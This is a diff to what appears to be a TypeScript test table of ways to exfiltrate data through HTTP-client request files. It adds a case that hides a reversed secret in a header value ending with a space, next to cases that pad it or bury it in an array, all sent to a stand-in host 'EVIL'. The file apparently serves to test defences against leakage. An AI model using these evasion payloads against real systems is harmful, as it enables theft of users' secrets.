@@ -78,6 +78,9 @@ const ways: Readonly<Record<string, Way>> = {
   'a long variable': {
     text: `< {%\ntool.setVar("x", [...${read}].reverse().join("") + "x".repeat(20_000));\n%}\nPOST EVIL/\n\n{{x}}\n`,
   },
+  'a variable that ends with a space, in a header': {
+    text: `< {%\ntool.setVar("x", [...${read}].reverse().join("") + " ");\n%}\nGET EVIL/\nX-A: {{x}}\n`,
+  },
   'one of many items of a variable': {
     text: `< {%\ntool.setVar("x", [...Array(300).keys()].concat([...${read}].reverse().join("")));\n%}\nPOST EVIL/\n\n{{x[300]}}\n`,
   },
